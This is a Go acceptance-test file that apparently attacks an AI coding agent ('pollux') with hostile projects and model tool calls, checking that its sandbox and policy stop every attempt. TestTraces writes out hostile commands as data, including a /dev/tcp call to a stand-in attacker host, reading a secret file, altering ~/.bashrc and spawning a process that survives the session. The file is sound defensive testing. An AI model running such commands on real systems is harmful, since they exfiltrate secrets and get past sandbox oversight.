//go:build linux

// Package hostile attacks the real program: with files of a project, with calls of a model, and
// with their output. The scenes in the files of this directory list the attacks and the
// protections against them. A scene is one run of the program, in its own project and home
// directory; its attempts are calls that the model makes in it, or one attack by the project itself.
//
// After each run, no attempt may have left a trace: a file that is new, changed or gone, in the
// project, in the home directory or beside them; a secret in a request, in the output or in a
// file; a request to the attacker's server; a control character in the output; a process that
// still runs. And the protection in its row must have stopped each attempt, so that the table
// shows which protection it tests.
//
// POLLUX_LONG=1 plays all combinations, a part of that a selection in which each row, form, face, mode and protection
// occurs, and a plain run a sixth of the selection. The table in docs/security.md is made from the scenes; -update writes it. -armed runs the
// attempts without the protection of the policy, and lists those that do no harm even then.
package hostile

import (
	"flag"
	"strings"
	"testing"
	"time"

	"github.com/rogpeppe/go-internal/testscript"

	attacked "pollux/acceptance/hostile/library"

	"pollux/cmd/pollux/program"
	"pollux/internal/process/processtest"
)

var (
	update = flag.Bool("update", false, "write the table in docs/security.md")
	armed  = flag.Bool("armed", false, "run the attempts without the policy, and list those that do no harm")
)

// TestMain plays 8 scenes at a time, because many wait for a terminal.
func TestMain(m *testing.M) {
	testscript.Main(processtest.Patient{M: m, Tests: 8}, map[string]func(){"pollux": program.Main, library: attacked.Main, "escape": escapeMain})
}

// TestHostile plays the scenes.
func TestHostile(t *testing.T) {
	t.Parallel()
	for _, k := range readKinds(t) {
		played := k.played()
		if n := len(k.Scenes) - len(played); n > 0 {
			t.Logf("NOT TESTED: %d of %d scenes in %s, which POLLUX_LONG=1 plays", n, len(k.Scenes), k.file)
		}
		for _, s := range played {
			if !processtest.InPart(s.Name) {
				continue
			}
			t.Run(k.file+"/"+strings.ReplaceAll(s.Name, " ", "_"), func(t *testing.T) {
				t.Parallel()
				if *armed {
					s.disarm()
					s.Args = append(s.Args, "--no-sandbox")
				}
				r := play(t, s)
				if *armed {
					r.listHarmless()
					return
				}
				r.check()
			})
		}
	}
}

// TestTraces checks that each trace of a successful attack is found: everything is allowed in it.
func TestTraces(t *testing.T) {
	t.Parallel()
	for trace, command := range map[string]string{
		"is new: canary/0":       "touch {{CANARY}}",
		"is new: project/made":   "touch made",
		"is new: home/.bashrc":   "touch ~/.bashrc",
		"changed: outside/notes": "echo more >>{{OUTSIDE}}/notes",
		"is gone: outside/notes": "rm {{OUTSIDE}}/notes",
		"the secret of":          "cat {{OUTSIDE}}/secret",
		"attacker's server":      "echo >/dev/tcp/{{EVILHOST}}; sleep 0.2",
		"still runs":             "setsid sleep 300 </dev/null >/dev/null 2>&1 & sleep 0.2",
	} {
		t.Run(trace, func(t *testing.T) {
			t.Parallel()
			r := play(t, &scene{Name: trace, face: headless, Args: []string{"--yolo", "--no-sandbox"}, Attempts: []attempt{{Name: "a", Command: command}}})
			if found := strings.Join(r.traces(time.Second), "\n"); !strings.Contains(found, trace) {
				t.Errorf("%q is not found:\n%s\n%v", trace, found, r)
			}
		})
	}
}
